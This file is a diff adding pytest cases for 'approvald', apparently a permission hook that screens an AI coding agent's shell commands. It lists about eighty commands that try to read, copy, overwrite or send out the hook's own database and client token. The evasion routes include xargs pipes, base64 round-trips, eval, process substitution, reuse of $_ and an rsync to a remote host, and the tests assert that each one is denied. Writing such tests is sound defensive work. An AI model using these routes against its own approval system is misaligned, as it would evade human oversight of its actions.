@@ -1,0 +1,134 @@
+"""Text a command only prints (echo, printf) or stores (a commit message) is not a file argument
+for `path_arg`: `echo approvald.db` reads nothing of approvald's. Every route that reads those
+files, or hands their names to something that could, stays DENY under `self.state`.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+FAKE_HOME = "/home/dev"
+CWD = f"{FAKE_HOME}/projects/webapp"
+STATE = "~/.local/state/approvald"
+
+
+@pytest.fixture(scope="module")
+def decide() -> Iterator[Callable[..., Any]]:
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("HOME", FAKE_HOME)
+        mp.setenv("APPROVALD_HOME", "/tmp/ad-printed-text-home")
+        from approvald.agents import payload_reader
+        from approvald.policy import load_engine
+
+        engine = load_engine(include_user=False)
+        adapter = payload_reader("claude-code")
+
+        def run(command: str, cwd: str = CWD) -> Any:
+            return engine.evaluate(adapter({
+                "session_id": "s", "cwd": cwd, "hook_event_name": "PreToolUse",
+                "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": "t"}))
+
+        yield run
+
+
+# Reads of approvald's files, and names handed to something that reads them.
+READS = [
+    # the file named as a file, by any program, from any directory
+    "cat approvald.db",
+    "sqlite3 approvald.db",
+    'cd "$D" && cat approvald.db',
+    "ls approvald.db",
+    "find . -name approvald.db",
+    "echo < approvald.db",
+    'echo "$(<approvald.db)"',
+    "echo $(cat client.token)",
+    "printf -v v '%s' x; cat approvald.db",
+    # git: a message file, a pathspec after the message
+    "git commit -F approvald.db",
+    "git commit -m x approvald.db",
+    "git commit -m x -- approvald.db",
+    # written to
+    "echo x > approvald.db",
+    f"echo x >> {STATE}/client.token",
+    # globs the shell expands: a listing of the directory
+    f"echo {STATE}/*",
+    "echo ~/.config/approvald/*",
+    "echo approvald.d*",
+    f"printf '%s\\n' {STATE}/*",
+    "echo $APPROVALD_HOME",
+    # printed into a pipe, a substitution or a variable that a reader takes names from
+    "echo approvald.db | xargs cat",
+    "echo approvald.db | xargs -I{} cp {} /tmp",
+    "printf approvald.db | xargs rm",
+    f"cat $(echo {STATE}/approvald.db)",
+    "cat `echo approvald.db`",
+    "f=$(echo approvald.db); cat $f",
+    "printf -v f approvald.db; cat $f",
+    'printf -v f %s approvald.db; cat "$f"',
+    "printf -v approvald.db x",
+    'mapfile -t a < <(echo approvald.db); cat "${a[@]}"',
+    "echo approvald.db | tar -cf - -T -",
+    'echo approvald.db | while read f; do cat "$f"; done',
+    "echo approvald.db | cpio -o",
+    "echo approvald.db | zip x.zip -@",
+    "echo approvald.db | rsync --files-from=- . host:",
+    "echo approvald.db | xargs -a /dev/stdin cat",
+    "echo approvald.db | parallel cat",
+    "echo approvald.db | xe cat",
+    "echo '.open approvald.db' | sqlite3",
+    "echo approvald.db | tr a a | xargs cat",
+    "echo approvald.db | base64 | base64 -d | xargs cat",
+    "echo cat approvald.db | sh",
+    'eval "$(echo cat approvald.db)"',
+    "{ echo approvald.db; } | xargs cat",
+    "(echo approvald.db) | xargs cat",
+    "f() { echo approvald.db; }; f | xargs cat",
+    "bash -c 'echo approvald.db' | xargs cat",
+    "while true; do echo approvald.db; done | xargs cat",
+    "echo approvald.db |& xargs cat",
+    # printed into a process substitution, a file or a descriptor a later command reads
+    "echo approvald.db > >(xargs cat)",
+    "{ echo approvald.db; } > >(xargs cat)",
+    "{ echo approvald.db; } > >(tar -cf /tmp/x -T -)",
+    "exec > >(xargs cat); echo approvald.db",
+    "exec > list; echo approvald.db; tar -cf /tmp/x -T list",
+    "exec 3>list; echo approvald.db >&3; tar -cf /tmp/x -T list",
+    "exec {fd}>list; { echo approvald.db; } >&$fd; tar -cf /tmp/x -T list",
+    "{ echo approvald.db; } > list; tar -cf /tmp/x -T list",
+    "echo approvald.db > list; xargs cat < list",
+    "coproc echo approvald.db",
+    "coproc C { echo approvald.db; }",
+    "nohup echo approvald.db",
+    # read back from the shell's state: `$_` is the last argument of the last command
+    "echo approvald.db; cat $_",
+    'echo approvald.db; cat "${_}"',
+    "x=_; echo approvald.db; cat ${!x}",
+    "declare -n r=_; echo approvald.db; cat $r",
+    "echo approvald.db; set | sed -n 's/^_=//p' | tar -cf /tmp/x -T -",
+    "echo approvald.db; declare -p _ | tar -cf /tmp/x -T -",
+    "trap 'cat $_' EXIT; echo approvald.db",
+    "trap 'tar -cf /tmp/x -T <(set)' EXIT; echo approvald.db",
+    "echo approvald.db; eval 'cat $_'",
+    "echo approvald.db; bash -c 'cat $0' \"$_\"",
+    "for i in 1 2; do cat $_; echo approvald.db; done",
+    'echo approvald.db; xargs cat <<< "$_"',
+    'echo approvald.db; read f <<< "$_"; cat "$f"',
+    'echo approvald.db; cp "$_" /tmp/x',
+]
+
+
+@pytest.mark.parametrize("line", READS)
+def test_reads_of_own_files_stay_denied(decide: Callable[..., Any], line: str) -> None:
+    decision = decide(line)
+    assert decision.decision == "DENY", f"{line!r} -> {decision.decision}"
+    assert "self.state" in decision.rules
+
+
+@pytest.mark.parametrize("cwd", [CWD, "/", "/tmp", f"{FAKE_HOME}/.local/state/approvald"])
+def test_a_bare_name_is_read_from_any_directory(decide: Callable[..., Any], cwd: str) -> None:
+    for line in ("cat approvald.db", "echo approvald.db | xargs cat", "echo x > client.token"):
+        decision = decide(line, cwd)
+        assert decision.decision == "DENY" and "self.state" in decision.rules, (line, cwd)
